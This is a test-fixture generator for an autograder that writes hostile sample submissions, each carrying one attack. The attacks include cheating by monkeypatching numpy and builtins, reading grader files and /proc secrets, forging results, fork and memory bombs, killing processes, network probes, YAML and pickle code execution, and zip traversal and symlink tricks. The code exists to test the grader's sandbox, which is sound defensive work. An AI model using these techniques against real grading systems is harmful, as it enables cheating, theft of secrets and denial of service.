"""Writes the hostile corpus: sample_submissions/hostile/<behaviour>/, one attack or fault each.

Every submission is derived from the reference in sample_submissions/hw1/reference (the reference
notebook plus a cell carrying the attack, or an edited written/weights file), so the honest part
keeps scoring and the test can tell "the attack changed nothing" from "the grader broke". Each
folder holds an `expected.json`:

    {"description": "...", "parts": {"q1_1": 10, ..., "p5": 25}, "must_not": [...], "tolerance": 0.01}

`parts` are the scores the honest part earns (the attack's target items at 0, the rest full).
`must_not` lists what must not happen while or after it is graded:
- `sentinel:/abs/path`: a file the attack tries to create (removed by the test before the run);
- `text:<literal>`: text that must not appear in the submission's results.json. An attack that
  succeeds raises an error carrying such a marker, and a cell's error reaches results.json. The
  markers are assembled at run time ("hostile-" + "leaked"), so the traceback's copy of the
  raising line never contains them;
- `env:<NAME>`: the value of that variable in the grader's environment (the test sets a random
  GRADER_SALT) must not appear in results.json;
- `listen:<port>`: the test listens on 127.0.0.1:<port>; no connection may arrive;
- `in_submission:<relative path>`: a file that must not appear in the submission's own folder.
Zip submissions are a `submission.zip` in the folder. A few files are too big to commit; the
folder then names them under `generated_in_test` and the test writes them with `generate()`.

Run `python tests/make_hostile.py` after changing the reference; test_hostile.py checks that the
committed folders are what this script writes. Nothing here runs an attack: the payloads are
only written (the pickles are built from `os.system` references, never loaded).
"""

from __future__ import annotations

import io
import json
import os
import pickle
import shutil
import stat
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

ROOT = Path(__file__).resolve().parent.parent
REFERENCE = ROOT / "sample_submissions" / "hw1" / "reference"
HOSTILE = ROOT / "sample_submissions" / "hostile"

FULL: dict[str, float] = {"q1_1": 10, "q1_2_graph": 5, "q1_3_hessian": 5, "q1_3_cost": 5, "q1_3_1_z": 4,
                          "q1_3_1_cost": 6, "p1": 15, "p2": 25, "p3": 20, "p4": 15, "p5": 25}
WRITTEN_ZERO = dict.fromkeys(("q1_1", "q1_2_graph", "q1_3_hessian", "q1_3_cost", "q1_3_1_z", "q1_3_1_cost"), 0)
CODE_ZERO = dict.fromkeys(("p1", "p2", "p3", "p4"), 0)
ALL_ZERO = dict.fromkeys(FULL, 0)
NETWORK_PORT = 47391
FIXED_TIME = (1980, 1, 1, 0, 0, 0)  # zip members get this date, so regenerating gives equal bytes
MB = 2**20

Writer = Callable[[Path], None]

# ------------------------------------------------------------------ attack cells
# Helpers repeated in the cells that need them: each cell must run on its own.
NAME_PROCESS = '''
def _hostile_name(name):
    """Name this process (its comm) so that the test finds it if it outlives the grading."""
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, name.encode()[:15], 0, 0, 0)  # PR_SET_NAME
    except Exception:
        pass
'''

WRONG_COUNTS = '''
# Wrong on purpose: these two items may score only if the attack below works.
def mult_count(n, m, mode):
    return -1


def memory_count(n, m, mode):
    return -1
'''

NUMPY_MONKEYPATCH = WRONG_COUNTS + '''
# Make every comparison succeed, hoping that the grader compares inside this process.
import gc
import numpy as np
import numpy.testing

np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_equal = lambda *args, **kwargs: None
np.testing.assert_array_almost_equal = lambda *args, **kwargs: None
for kind in (np.ndarray, np.float64, np.int64):
    for name, value in (("__eq__", lambda self, other: True), ("__ne__", lambda self, other: False)):
        try:
            setattr(kind, name, value)
        except TypeError:
            # Built-in types refuse; their real __dict__ does not (the "forbidden fruit" trick).
            try:
                gc.get_referents(kind.__dict__)[0][name] = value
            except Exception:
                pass
'''

BUILTINS_MONKEYPATCH = WRONG_COUNTS + '''
# Replace builtins a grader might use to compare results or to report them. (`any` is left
# alone: the harness uses it, and replacing it only spoils this notebook's own results.)
import builtins

builtins.all = lambda *args, **kwargs: True
builtins.abs = lambda x: 0
builtins.round = lambda x, *args: 0
builtins.sum = lambda *args, **kwargs: 0
builtins.sorted = lambda iterable, *args, **kwargs: []
builtins.print = lambda *args, **kwargs: None
builtins.open = lambda *args, **kwargs: None
_real_import = builtins.__import__
builtins.__import__ = lambda name, *args, **kwargs: _real_import("numpy" if name == "json" else name, *args, **kwargs)
'''

HARNESS_BUILTINS_SABOTAGE = '''
# Replace builtins that the harness running this notebook needs, so that it misreports results.
import builtins

builtins.isinstance = lambda obj, kind: True
builtins.len = lambda obj: 0
builtins.max = lambda *args, **kwargs: 0
builtins.min = lambda *args, **kwargs: 0
builtins.callable = lambda obj: True
builtins.any = lambda iterable: True
'''

NAMESPACE_TAMPER = '''
# Names the harness might look up in the notebook's namespace, replaced to trip it up. The
# new __builtins__ keeps __import__: numpy's C code imports through the caller's builtins, so
# without it this notebook's own functions would break, not the harness.
import builtins as _builtins

__builtins__ = dict(vars(_builtins), open=None, exec=None, eval=None, compile=None, print=None)
open = print = exec = eval = compile = None
isinstance = lambda *args: True
__name__ = "not_main"
__spec__ = None
'''

GRADER_IMPORT_PATCH = WRONG_COUNTS + '''
# Import the grader and the reference from guessed install locations, then patch them.
import os
import sys

GUESSES = ["/work/main", "/autograder/source", "/autograder/venv/lib/python3.10/site-packages",
           "/usr/local/lib/python3.10/site-packages", "/usr/lib/python3/dist-packages",
           "/root/.pyenv/versions/3.11.7/lib/python3.11/site-packages", "/srv/grader", "/opt/grader",
           os.path.expanduser("~")]
sys.path[:0] = GUESSES
found = []
for name in ("grader", "grader.checks.arrays", "grader.engine", "reference_solutions",
             "reference_solutions.hw1.hw1_code"):
    try:
        module = __import__(name, fromlist=["_"])
    except BaseException:
        continue
    if getattr(module, "__file__", None):  # an unreadable folder imports as an empty namespace package
        found.append(f"{name} from {module.__file__}")
if "grader.checks.arrays" in sys.modules:
    sys.modules["grader.checks.arrays"].mismatch = lambda *args, **kwargs: None
if "reference_solutions.hw1.hw1_code" in sys.modules:
    reference = sys.modules["reference_solutions.hw1.hw1_code"]
    mult_count, memory_count = reference.mult_count, reference.memory_count
if found:
    raise RuntimeError("hostile-" + "leaked: " + "; ".join(found))
'''

READ_GRADER_FILES = WRONG_COUNTS + '''
# Open the rubric, the reference solution and the grader's files at guessed paths.
import os
import re


def expand(pattern):
    """A small glob (the glob module may not be importable here)."""
    paths = ["/"]
    for part in pattern.strip("/").split("/"):
        if "*" not in part:
            paths = [os.path.join(p, part) for p in paths]
            continue
        regex = re.compile(part.replace(".", r"\\.").replace("*", ".*"))
        matched = []
        for folder in paths:
            try:
                matched += [os.path.join(folder, n) for n in os.listdir(folder) if regex.fullmatch(n)]
            except OSError:
                pass
        paths = matched
    return paths


PATHS = ["/work/main/rubrics/hw1.yaml", "/work/main/reference_solutions/hw1/hw1_code.py",
         "/work/main/reference_solutions/hw1/written.py", "/work/main/grader/engine.py",
         "/work/main/grader/seeds.py", "/autograder/source/rubrics/hw1.yaml",
         "/autograder/source/salt.txt", "/autograder/source/reference_solutions/hw1/hw1_code.py",
         "/autograder/submission_metadata.json", "/autograder/results/results.json"]
PATTERNS = ["/usr/lib/python3*/site-packages/reference_solutions/hw1/*.py",
            "/usr/local/lib/python3*/site-packages/reference_solutions/hw1/*.py",
            "/autograder/venv/lib/python3*/site-packages/reference_solutions/hw1/*.py",
            "/autograder/venv/lib/python3*/site-packages/grader/engine.py",
            "/root/.pyenv/versions/*/lib/python3*/site-packages/reference_solutions/hw1/*.py",
            "/root/.pyenv/versions/*/lib/python3*/site-packages/*.pth",
            "/work/*/rubrics/*.yaml", "/work/*/reference_solutions/hw1/*.py", "/srv/*/rubrics/*.yaml",
            "/opt/*/rubrics/*.yaml", "/home/*/*/rubrics/*.yaml", "/home/*/*/reference_solutions/hw1/*.py"]
leaked = []
for path in PATHS + [p for pattern in PATTERNS for p in expand(pattern)]:
    try:
        with open(path, encoding="utf-8", errors="replace") as handle:
            text = handle.read(200_000)
    except OSError:
        continue
    leaked.append(f"{path}: {text[:400]!r}")
    if path.endswith("hw1_code.py"):
        scratch = {"__name__": "scratch"}
        try:
            exec(compile(text, path, "exec"), scratch)
            mult_count, memory_count = scratch["mult_count"], scratch["memory_count"]
        except BaseException:
            pass
if leaked:
    raise RuntimeError("hostile-" + "leaked:\\n" + "\\n".join(leaked))
'''

FILESYSTEM_SOLUTION_SEARCH = WRONG_COUNTS + '''
# Search the disk for anybody's working solution (sample submissions, other students'
# notebooks) and take its count functions. Only those two definitions are taken out of a found
# file, by its syntax tree: nothing else of it runs.
import ast
import json
import os
import time


def candidates(roots, deadline, skip):
    for root in roots:
        for folder, dirs, files in os.walk(root):  # folders this user cannot read are skipped
            if time.monotonic() > deadline:
                return
            dirs[:] = [d for d in dirs if not d.startswith(".") and os.path.join(folder, d) not in skip]
            for name in files:
                if name.endswith(".ipynb") or name.startswith("hw1_code"):
                    yield os.path.join(folder, name)


def count_functions(path):
    with open(path, encoding="utf-8") as handle:
        text = handle.read(2_000_000)
    sources = [text]
    if path.endswith(".ipynb"):
        cells = json.loads(text)["cells"]
        sources = ["".join(c["source"]) if isinstance(c["source"], list) else c["source"]
                   for c in cells if c.get("cell_type") == "code"]
    found = {}
    for source in sources:
        try:
            tree = ast.parse(source)
        except SyntaxError:
            continue
        for node in tree.body:
            if isinstance(node, ast.FunctionDef) and node.name in ("mult_count", "memory_count"):
                if "while" in ast.dump(node):
                    continue  # might never return
                namespace = {}
                exec(compile(ast.Module([node], []), path, "exec"), namespace)
                found[node.name] = namespace[node.name]
    return found


def works(functions):
    checks = [("mult_count", (3, 3, "reverse"), 27), ("memory_count", (3, 3, "forward"), 21),
              ("memory_count", (3, 3, "reverse"), 21), ("mult_count", (2, 5, "forward"), 18)]
    return all(type(functions[f](*args)) is int and functions[f](*args) == want for f, args, want in checks)


skip = {os.getcwd(), "/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/boot", "/etc",
        "/run", "/snap"}
deadline = time.monotonic() + 1.2  # well inside the cell's time limit
for path in candidates(["/work", "/autograder", "/home", "/srv", "/opt", "/mnt", "/data", "/root",
                        "/tmp", "/var", "/"], deadline, skip):
    try:
        functions = count_functions(path)
        good = works(functions)
    except Exception:
        continue
    if good:
        mult_count, memory_count = functions["mult_count"], functions["memory_count"]
        raise RuntimeError("hostile-" + f"solution-found: {path}")
'''

ENV_SECRETS = '''
# Look for the grader's private salt: in this process's environment and in every process's.
import os

found = []
for key, value in os.environ.items():
    if key.startswith("GRADER") or any(word in key for word in ("SALT", "SECRET", "TOKEN", "PASSWORD")):
        found.append(f"env {key}={value}")
for pid in ["self", str(os.getppid()), "1"] + sorted(p for p in os.listdir("/proc") if p.isdigit()):
    for what in ("environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as handle:
                data = handle.read(1_000_000).replace(b"\\0", b" ").decode("utf-8", "replace")
        except OSError:
            continue
        if "GRADER_SALT=" in data:
            found.append(f"/proc/{pid}/{what}: {data[:2000]}")
for path in ("/autograder/source/salt.txt", os.environ.get("GRADER_SALT_FILE", "")):
    try:
        with open(path) as handle:
            found.append(f"{path}: {handle.read(200)}")
    except OSError:
        pass
if found:
    raise RuntimeError("hostile-" + "leaked:\\n" + "\\n".join(found))
'''

RESULTS_JSON_WRITES = '''
# Write a results.json with full marks wherever the grader might pick one up.
import json
import os

forged = {"score": 135.0, "output": "hostile-" + "forged results",
          "tests": [{"name": part, "score": 25.0, "max_score": 25.0, "status": "passed"}
                    for part in ("p1", "p2", "p3", "p4", "p5")]}
text = json.dumps(forged)
here = os.getcwd()
targets = ["results.json", os.path.join(here, "results", "results.json"),
           os.path.join(os.path.dirname(here), "results.json"), "/autograder/results/results.json",
           "/work/main/sample_submissions/hostile/results_json_writes/results.json"]
for base in ("/tmp/pytest-of-root", "/autograder", "/work/main"):
    for folder, dirs, files in os.walk(base):  # guessing the output folder of a batch run
        if folder.count(os.sep) > base.count(os.sep) + 3:
            dirs[:] = []
        if "results.json" in files or "gradebook.csv" in files:
            targets.append(os.path.join(folder, "results.json"))
written = []
for target in targets:
    try:
        os.makedirs(os.path.dirname(os.path.abspath(target)), exist_ok=True)
        with open(target, "w") as handle:
            handle.write(text)
        written.append(target)
    except OSError:
        pass
print("wrote", written)
'''

FORGE_PROTOCOL = '''
# Guess the grader's channel (a pipe on some fd) and write forged results, garbage and
# malformed JSON to every fd, hoping the grader takes them for the harness's messages.
import json
import os

items = ["p1_step", "p1_indicator", "p1_hardcoded_forward", "p1_kth_largest", "p2_forward",
         "p2_numerical_grad", "p3_quadratic_hessian", "p3_hvp_reverse", "p3_hvp_forward",
         "p3_mult_count", "p3_memory_count", "p4_forward", "p4_loss", "p4_sgd_step"]
forged = [{"t": "call", "id": f"{item}:{i}", "status": "ok", "message": "", "output": "",
           "value": 1e9, "args_after": None} for item in items for i in range(12)]
forged += [{"t": "cell", "index": i, "status": "ok", "message": "", "output": ""} for i in range(40)]
forged += [{"t": "ready"}, {"t": "done", "score": 135}]
payload = ("\\n".join(json.dumps(m) for m in forged) + "\\n").encode()
payload += b"NaN\\n" + b'{"t": "call", "value": NaN}\\n' + b"[" * 100_000 + b"\\n"
payload += b"\\xff\\xfe not utf-8\\n" + b"x" * (2 * 2**20) + b"\\n"
for fd in range(1, 64):
    try:
        os.write(fd, payload)
    except OSError:
        pass
'''

EXIT_SYS = ['import sys\nsys.exit(0)\n', 'raise SystemExit("bye")\n', "raise KeyboardInterrupt\n",
            "raise GeneratorExit\n", "exit()\n", "quit()\n"]

EXIT_OS = "import os\nos._exit(0)\n"

KILL_PARENT = '''
# Kill whatever started this process, then every process this user may signal.
import os
import signal

for target in (os.getppid(), 1):
    for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
        try:
            os.kill(target, sig)
        except OSError:
            pass
try:
    os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
except OSError:
    pass
os.kill(-1, signal.SIGKILL)  # this process included
'''

INFINITE_LOOP_CELL = '''
# A stray training loop that never ends, before the definitions.
epoch = 0
while True:
    epoch += 1
'''

INFINITE_LOOP_FUNCTION = '''
def hvp_forward(v, y):
    """Never returns."""
    while True:
        pass
'''

SIGNALS_IGNORED_LOOP = '''
# Ignore and block every signal a time limit could use, then loop, swallowing exceptions.
import signal

for sig in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGVTALRM,
            signal.SIGPROF, signal.SIGXCPU, signal.SIGUSR1):
    signal.signal(sig, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM, signal.SIGTERM, signal.SIGINT})
signal.setitimer(signal.ITIMER_REAL, 0)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
'''

MEMORY_BOMB = '''
# Allocate until the process runs out of memory, then ask for 32 GB at once.
hog = []
try:
    while True:
        hog.append(bytearray(64 * 2**20))
except MemoryError:
    hog.clear()
big = np.ones((2**20, 2**12))
'''

MEMORY_BOMB_FORKED = NAME_PROCESS + '''
# The memory limit (memory_mb, RLIMIT_AS) is per process: four forks each hold 30 % of it,
# 1.2 x memory_mb together, resident (every page written), at the same time.
import os
import resource
import time

import numpy as np

LIMIT_MB = resource.getrlimit(resource.RLIMIT_AS)[0] // 2**20
if not 0 < LIMIT_MB < 2**20:
    LIMIT_MB = 1536  # no limit at all: use the rubric's
CHILDREN, CHILD_MB = 4, LIMIT_MB * 3 // 10
read_end, write_end = os.pipe()
pids = []
for _ in range(CHILDREN):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        _hostile_name("hostile-mem")
        try:
            hog = np.empty(CHILD_MB * 2**20 // 8)
            hog[::512] = 1.0  # one write per 4 KB page: all of it resident, not just reserved
            os.write(write_end, b"1")
        except BaseException:
            pass
        time.sleep(20)
        os._exit(0)
    pids.append(pid)
os.close(write_end)
os.set_blocking(read_end, False)
signalled, deadline = 0, time.monotonic() + 3.7  # page faults are slow in some virtual machines
while signalled < len(pids) and time.monotonic() < deadline:
    try:
        signalled += len(os.read(read_end, 16))
    except BlockingIOError:
        time.sleep(0.02)


def _alive(pid):
    try:
        return os.waitpid(pid, os.WNOHANG) == (0, 0)
    except OSError:
        return False


def _resident_mb(pid):
    """The child's own resident memory now: a child that wrote its pages and was then killed
    by an out-of-memory killer did not hold them at the same time as the others."""
    try:
        for line in open(f"/proc/{pid}/status"):
            if line.startswith("RssAnon:"):
                return int(line.split()[1]) // 1024
    except OSError:
        pass
    return 0


def _proc_readable():
    """Whether /proc can be read here (Landlock refuses it while stat() still finds it)."""
    try:
        open("/proc/self/status").close()
        return True
    except OSError:
        return False


time.sleep(0.2)  # let a kill that is under way land
alive = [pid for pid in pids if _alive(pid)]
if _proc_readable():
    held = sum(1 for pid in alive if _resident_mb(pid) >= CHILD_MB * 9 // 10)
else:  # no /proc: the children that said they wrote their pages and are still alive
    held = min(signalled, len(alive))
for pid in pids:
    try:
        os.kill(pid, 9)
        os.waitpid(pid, 0)
    except OSError:
        pass
if held * CHILD_MB > LIMIT_MB:
    raise RuntimeError("hostile-memory-" + f"exceeded: {held} processes held {held * CHILD_MB} MB together, "
                       f"the limit is {LIMIT_MB} MB")
'''

FORK_BOMB = NAME_PROCESS + '''
# A fork bomb, bounded (at most 300 forks, each forking once more, for 2 s) so that it cannot
# take the machine down even where nothing limits it. The processes sleep: they must be gone
# after grading.
import os
import time

deadline = time.monotonic() + 2
forks = 0
for _ in range(300):
    if time.monotonic() > deadline:
        break
    try:
        pid = os.fork()
    except OSError:
        break  # the process limit
    if pid == 0:
        try:
            os.fork()
        except OSError:
            pass
        _hostile_name("hostile-fork")
        time.sleep(60)
        os._exit(0)
    forks += 1
print("forked", forks)
'''

DAEMON_DOUBLE_FORK = NAME_PROCESS + '''
# A daemon: fork, new session, fork again, close the inherited pipes, outlive the grading,
# then leave a file behind.
import os
import time

pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        _hostile_name("hostile-daemon")
        os.closerange(0, 256)
        time.sleep(3)
        try:
            with open("/tmp/hostile-daemon-sentinel", "w") as handle:
                handle.write("a daemon outlived the grading")
        except OSError:
            pass
        time.sleep(60)
    os._exit(0)
os.waitpid(pid, 0)
'''

PRINT_FLOOD = '''
# 100 MB of output: half through print, half written straight to fds 1 and 2.
import os

line = "x" * 2**20 + "\\n"
for _ in range(50):
    print(line, end="")
chunk = b"y" * 2**20
for _ in range(25):
    os.write(1, chunk)
    os.write(2, chunk)
'''

NETWORK = f'''
# Reach the network: loopback (where the test listens) and public addresses, with the socket
# module where it can be imported and with raw libc calls where it cannot.
import ctypes
import os
import struct

PORT = {NETWORK_PORT}
reached, tried = [], []
try:
    import socket
except ImportError:
    socket = None
if socket is not None:
    for host, port in (("127.0.0.1", PORT), ("1.1.1.1", 80), ("8.8.8.8", 53)):
        connection = socket.socket()
        connection.settimeout(1.0)
        try:
            connection.connect((host, port))
            connection.sendall(b"hostile-network")
            reached.append(f"socket {{host}}:{{port}}")
        except OSError as exc:
            tried.append(f"socket {{host}}: {{exc}}")
        finally:
            connection.close()
libc = ctypes.CDLL(None, use_errno=True)
for host, port, nonblocking in (("127.0.0.1", PORT, False), ("1.1.1.1", 80, True)):
    fd = libc.socket(2, 1 | (0o4000 if nonblocking else 0), 0)  # AF_INET, SOCK_STREAM
    if fd < 0:
        tried.append(f"libc socket: errno {{ctypes.get_errno()}}")
        continue
    address = struct.pack("=H", 2) + struct.pack(">H", port) + bytes(map(int, host.split("."))) + bytes(8)
    if libc.connect(fd, address, len(address)) == 0:
        os.write(fd, b"hostile-network")
        reached.append(f"libc {{host}}:{{port}}")
    else:
        tried.append(f"libc {{host}}: errno {{ctypes.get_errno()}}")
    os.close(fd)
print(tried)
if reached:
    raise RuntimeError("hostile-network-" + "reached: " + ", ".join(reached))
'''

LYING_RETURN_VALUES = '''
# Return values that lie about what they are: a grader comparing with == or np.asarray in
# this process would be fooled.
class Liar:
    """Claims to equal everything, and converts to the right count."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

    def __int__(self):
        return 27

    __index__ = __int__

    def __float__(self):
        return 27.0

    def __array__(self, dtype=None, copy=None):
        return np.asarray(27.0)


class LyingInt(int):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__


class LyingArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)

    def __array__(self, dtype=None, copy=None):
        return np.asarray(hvp_forward_right)


def mult_count(n, m, mode):
    return Liar()


def memory_count(n, m, mode):
    return LyingInt(2**999)  # 301 digits: a number, wrong, and as large as the grader accepts


hvp_forward_right = None


def hvp_forward(v, y):
    global hvp_forward_right
    hvp_forward_right = np.outer(v, v) @ y
    return np.zeros(len(v)).view(LyingArray)


def mlp_forward(params, X):
    return np.zeros(5 * 2**20)  # 40 MB, more than the grader reads back
'''

SURROGATE_IN_OUTPUT = '''
# Text that is not valid Unicode (a lone surrogate, as os.fsdecode makes of a file name that is
# not UTF-8) in an error message, which the grader shows to the student.
raise ValueError("could not open data_\\udcff.csv")
'''

EVERY_CALL_TIMES_OUT = '''
# Every call of these two functions runs until its own time limit: 24 calls in all.
def mult_count(n, m, mode):
    while True:
        pass


def memory_count(n, m, mode):
    while True:
        pass
'''

TMP_PERSISTENCE = '''
# Leave files behind in the shared temporary folders, for a later submission to read.
import os

for folder in ("/tmp", "/var/tmp", "/dev/shm"):
    try:
        with open(os.path.join(folder, "hostile-tmp-persistence"), "w") as handle:
            handle.write("left behind by a submission")
    except OSError:
        pass
'''

DISK_FILL = '''
# Fill the disk: many files, each below the per-file size limit (bounded at 160 MB here).
import os

chunk = bytes(8 * 2**20)
written = 0
try:
    for i in range(20):
        with open(f"hostile-fill-{i}.bin", "wb") as handle:
            handle.write(chunk)
        written += len(chunk)
except OSError:
    pass
if written > 64 * 2**20:
    raise RuntimeError("hostile-disk-" + f"exceeded: wrote {written // 2**20} MB in its folder")
'''

SYMLINK_READER = '''
# Read the files the submission's symbolic links point to (if they were extracted or copied).
import os

leaked = []
for name in ("passwd_link", "rubric_link", "reference_link", "hw1_written.yaml"):
    if not os.path.islink(name):
        continue
    try:
        with open(name, errors="replace") as handle:
            leaked.append(f"{name} -> {os.readlink(name)}: {handle.read(300)!r}")
    except OSError:
        pass
if leaked:
    raise RuntimeError("hostile-" + "leaked:\\n" + "\\n".join(leaked))
'''

# ------------------------------------------------------------------ written answers
WRITTEN_INJECTION_EDITS = [
    ("q1_3_hessian:\n- [16, 8, 20]\n- [8, 4, 10]\n- [20, 10, 25]\n",
     "q1_3_hessian: \"__import__('os').system('touch /tmp/hostile-injection')\"\n"),
    ("multiplications: O(n^2)\n",
     "multiplications: \"O(n^2) if __import__('os').system('touch /tmp/hostile-injection') else 0\"\n"),
    ("q1_3_1_z: [48, 12, 24]\n", "q1_3_1_z: [\"exec('open(\\\"/tmp/hostile-injection\\\", \\\"w\\\")')\", 12, 24]\n"),
    ("reverse_multiplications: 3*m*n\n",
     "reverse_multiplications: \"sympify('__import__(\\\"os\\\").system(\\\"touch /tmp/hostile-injection\\\")')\"\n"),
    ("reverse_memory: 2*m*n + m\n",
     "reverse_memory: \"Symbol('n').__class__.__mro__[-1].__subclasses__()\"\n"),
    ("forward_multiplications: m*n + 2*n**2\n", "forward_multiplications: \"n**(10**100) + 9**9**9**9\"\n"),
]

YAML_PYTHON_TAGS = """\
exploit: !!python/object/apply:os.system ["touch /tmp/hostile-yaml-tag"]
name: !!python/name:os.system
popen: !!python/object/new:subprocess.Popen [["touch", "/tmp/hostile-yaml-tag"]]
module: !!python/module:os
"""

YAML_ALIAS_BOMB = """\
# "Billion laughs": nine levels of nine aliases, 387 million strings once expanded.
a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]
b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]
c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]
d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]
e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]
f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]
g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]
h: &h [*g, *g, *g, *g, *g, *g, *g, *g, *g]
q1_1: &i [*h, *h, *h, *h, *h, *h, *h, *h, *h]
"""

YAML_VALUE_ERRORS = (
    "# Values that YAML's own constructors reject with ValueError: a date with month 13 and an\n"
    "# integer longer than Python converts (4300 digits).\n"
    "submitted_on: 2024-13-45\n"
    f"student_id: {'9' * 5000}\n"
)


# ------------------------------------------------------------------ writers
def _reference_notebook() -> dict[str, Any]:
    return json.loads((REFERENCE / "hw1_code.ipynb").read_text(encoding="utf-8"))


def _code_cell(source: str, number: int) -> dict[str, Any]:
    return {"cell_type": "code", "execution_count": None, "id": f"hostile-{number}", "metadata": {},
            "outputs": [], "source": source}


def notebook_text(*, append: tuple[str, ...] = (), insert_after_first: tuple[str, ...] = ()) -> str:
    """The reference notebook with cells added after its first code cell and at its end."""
    notebook = _reference_notebook()
    cells = notebook["cells"]
    first = next(i for i, cell in enumerate(cells) if cell["cell_type"] == "code")
    for offset, source in enumerate(insert_after_first):
        cells.insert(first + 1 + offset, _code_cell(source, len(cells)))
    for source in append:
        cells.append(_code_cell(source, len(cells)))
    return json.dumps(notebook, indent=1) + "\n"


def nb(*append: str, insert_after_first: tuple[str, ...] = ()) -> Writer:
    def write(folder: Path) -> None:
        text = notebook_text(append=append, insert_after_first=insert_after_first)
        (folder / "hw1_code.ipynb").write_text(text, encoding="utf-8")

    return write


def copy(name: str) -> Writer:
    return lambda folder: shutil.copyfile(REFERENCE / name, folder / name)


def text(name: str, content: str) -> Writer:
    return lambda folder: (folder / name).write_text(content, encoding="utf-8")


def raw(name: str, content: bytes) -> Writer:
    return lambda folder: (folder / name).write_bytes(content)


def written_edited(edits: list[tuple[str, str]]) -> Writer:
    def write(folder: Path) -> None:
        source = (REFERENCE / "hw1_written.yaml").read_text(encoding="utf-8")
        for old, new in edits:
            if source.count(old) != 1:
                raise SystemExit(f"make_hostile: {old!r} is not once in the reference answers")
            source = source.replace(old, new)
        (folder / "hw1_written.yaml").write_text(source, encoding="utf-8")

    return write


def written_appended(extra: str) -> Writer:
    def write(folder: Path) -> None:
        source = (REFERENCE / "hw1_written.yaml").read_text(encoding="utf-8")
        (folder / "hw1_written.yaml").write_text(source + extra, encoding="utf-8")

    return write


HONEST_WRITTEN_AND_WEIGHTS = [copy("hw1_written.yaml"), copy("hw1_weights.npz")]
HONEST_ALL = [copy("hw1_written.yaml"), copy("hw1_code.ipynb"), copy("hw1_weights.npz")]


class _RunsCommand:
    """Unpickling this calls os.system(command): what a loader with allow_pickle=True would do."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.system, (self.command,)


def _zip_bytes(members: list[tuple[str, bytes, int]]) -> bytes:
    """A deflated zip with fixed dates; mode 0 means a regular file, else the full st_mode."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data, mode in members:
            info = zipfile.ZipInfo(name, date_time=FIXED_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.create_system = 3  # Unix: external_attr carries the file type and mode
            info.external_attr = (mode or (stat.S_IFREG | 0o644)) << 16
            archive.writestr(info, data)
    return buffer.getvalue()


def _npy(array: np.ndarray) -> bytes:
    buffer = io.BytesIO()
    np.lib.format.write_array(buffer, array, allow_pickle=True)
    return buffer.getvalue()


def npz_with_pickle(folder: Path) -> None:
    """The reference weights, with W2 replaced by an object array whose unpickling runs a command."""
    with np.load(REFERENCE / "hw1_weights.npz", allow_pickle=False) as data:
        arrays = {key: data[key] for key in data.files}
    payload = np.empty(1, dtype=object)
    payload[0] = _RunsCommand("touch /tmp/hostile-npz-pickle")
    arrays["W2"] = payload
    members = [(f"{key}.npy", _npy(value), 0) for key, value in arrays.items()]
    (folder / "hw1_weights.npz").write_bytes(_zip_bytes(members))


def npz_not_zip(folder: Path) -> None:
    """hw1_weights.npz that is a bare pickle stream (np.save of a pickled object), not a zip."""
    data = pickle.dumps(_RunsCommand("touch /tmp/hostile-npz-raw-pickle"), protocol=2)
    (folder / "hw1_weights.npz").write_bytes(data)


def _honest_members(notebook: str | None = None) -> list[tuple[str, bytes, int]]:
    return [("hw1_written.yaml", (REFERENCE / "hw1_written.yaml").read_bytes(), 0),
            ("hw1_code.ipynb", (notebook or (REFERENCE / "hw1_code.ipynb").read_text()).encode(), 0),
            ("hw1_weights.npz", (REFERENCE / "hw1_weights.npz").read_bytes(), 0)]


def zip_submission(members: Callable[[], list[tuple[str, bytes, int]]]) -> Writer:
    return lambda folder: (folder / "submission.zip").write_bytes(_zip_bytes(members()))


def _bomb_members() -> list[tuple[str, bytes, int]]:
    # 90 MB of zeros deflate to about 90 KB: a ratio near 1000:1, under the per-file size limit.
    return [*_honest_members(), ("data/padding.bin", bytes(90 * MB), 0)]


def _traversal_members() -> list[tuple[str, bytes, int]]:
    return [*_honest_members(), ("../../tmp/hostile-traversal", b"written outside the folder\n", 0),
            ("/tmp/hostile-traversal-absolute", b"written at an absolute path\n", 0)]


def _symlink_members() -> list[tuple[str, bytes, int]]:
    link = stat.S_IFLNK | 0o777
    notebook = notebook_text(append=(SYMLINK_READER,))
    return [(name, data, mode) for name, data, mode in _honest_members(notebook) if name != "hw1_written.yaml"] + [
        ("hw1_written.yaml", b"../../../sample_submissions/hw1/reference/hw1_written.yaml", link),
        ("passwd_link", b"/etc/passwd", link),
        ("rubric_link", b"../../../rubrics/hw1.yaml", link),
    ]


def folder_symlinks(folder: Path) -> None:
